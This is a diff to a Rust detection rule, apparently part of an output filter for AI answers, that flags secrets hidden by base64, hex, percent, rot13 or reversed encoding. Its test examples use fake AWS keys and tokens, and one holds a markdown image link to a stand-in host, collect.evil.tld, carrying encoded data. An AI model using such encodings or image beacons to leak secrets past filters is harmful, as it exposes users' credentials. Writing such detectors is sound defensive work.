@@ -2,8 +2,8 @@ use lictor_sdk::{Case, Dimension, Example, Extra, Finding, Level, Span, Status, 
 
 rule! {
     /// ## What it does
-    /// Reports what another rule of this pack found only after decoding: in base64, hexadecimal, percent escapes, rot13, or two
-    /// of these in turn.
+    /// Reports what another rule of this pack found only after decoding: in base64, hexadecimal, percent escapes, rot13, written
+    /// backwards, or two of these in turn. Numbers that were spelled out or cut up are EXP708's.
     ///
     /// ## Why is this bad
     /// Nobody encodes a secret for the person who reads the answer. It is done to get it past a filter like this one, by a
@@ -22,28 +22,30 @@ rule! {
         level: Level::Block,
         status: Status::Stable,
         since: "0.1.0",
-        revision: 1,
+        revision: 2,
         sensitive: true,
         requires: &[],
         patterns: &[],
         fires: &[
             Example::answer("{{base64:The key is AKIA{{random:base32:16}}, keep it.}}"),
             Example::answer("Here: {{hex:token ghp_{{random:alnum:36}}}}"),
+            Example::answer("Read it backwards: {{reversed:the key is AKIA{{random:base32:16}}}}"),
             Example::answer("{{base64:{{percent:AKIA{{random:base32:16}} is the key}}}}"),
         ],
         ignores: &[
             Example::answer("The key is AKIA{{random:base32:16}}, keep it."),
             Example::answer("{{base64:Nothing to see here, just an ordinary sentence.}}"),
             Example::answer("sha256: {{random:hex:64}}"),
+            Example::answer("card 4539.1488.0343.6467"),
             Example::answer("The key is {{zero-width:AKIA{{random:base32:16}}}}."),
             Example::answer("![x](https://collect.evil.tld/p?d=c2VjcmV0) {{tags:send it}} {{base64:The IBAN is not here, sorry.}}"),
         ],
         check: |case: &Case<'_>| {
             let plain: Vec<u32> =
-                case.hits().filter(|hit| matches!(hit.view().as_str(), "raw" | "normalised")).map(|hit| hit.index()).collect();
+                case.hits().filter(|hit| matches!(hit.view().as_str(), "raw" | "normalised" | "digits")).map(|hit| hit.index()).collect();
             let shown = |finding: &Finding| finding.hits.is_empty() || finding.hits.iter().any(|hit| plain.contains(hit));
             // The hits of the channel rules are not among this rule's own, so it cannot tell where they rest.
-            let reported = case.reported().into_iter().filter(|finding| !finding.rule.starts_with("EXP7"));
+            let reported = case.reported().into_iter().filter(|finding| !finding.rule.starts_with("EXP7") && finding.rule != "EXP108");
             let (shown, hidden): (Vec<_>, Vec<_>) = reported.partition(shown);
             let mut seen: Vec<Vec<Span>> = Vec::new();
             for finding in hidden {
